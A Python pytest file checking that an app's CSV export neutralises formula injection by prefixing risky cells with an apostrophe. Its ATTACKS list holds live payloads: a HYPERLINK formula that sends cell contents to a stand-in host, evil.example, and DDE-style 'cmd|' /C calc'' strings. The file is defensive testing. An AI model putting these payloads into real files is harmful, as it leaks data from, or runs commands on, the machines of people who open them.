"""CSV exports cannot carry formulas into a spreadsheet: a cell starting with =, +, -, @, a tab or a carriage
return is written with a leading apostrophe (shown as text), everything else exactly as it was."""

from __future__ import annotations

import csv
import io

import pytest

from app.core.csv_export import FORMULA_STARTS, safe_cell, to_csv
from app.store.drafts import DraftStore
from app.studio.brief import parse_brief
from app.studio.generate import evaluate
from app.studio.library import export_drafts, save_variants

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_looking_cell_gets_a_leading_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", ["Cold brew, ready", "", "'quoted", "a=b", "#ColdBrew", " =not first"])
def test_other_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["n", "x"], [[-3, -0.5], [7, True]]))))
    assert rows == [["n", "x"], ["-3", "-0.5"], ["7", "True"]]


def test_draft_export_neutralises_every_formula_field(drafts: DraftStore) -> None:
    brief = parse_brief({"type": "slogan", "product": "BrewMate"})
    ids = []
    for attack in ATTACKS:
        ids += save_variants(drafts, brief, [evaluate({"slogan": attack}, brief)], project=attack)
    rows = list(csv.DictReader(io.StringIO(export_drafts(drafts.drafts(ids), "csv"))))
    assert len(rows) == len(ATTACKS)
    by_id = {int(r["id"]): r for r in rows}  # the id column is still a plain number
    for draft_id, attack in zip(ids, ATTACKS, strict=True):
        row = by_id[draft_id]
        assert row["project"] == "'" + attack
        assert row["text"] == "'" + drafts.get_draft(draft_id).text  # the text as stored, made inert
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
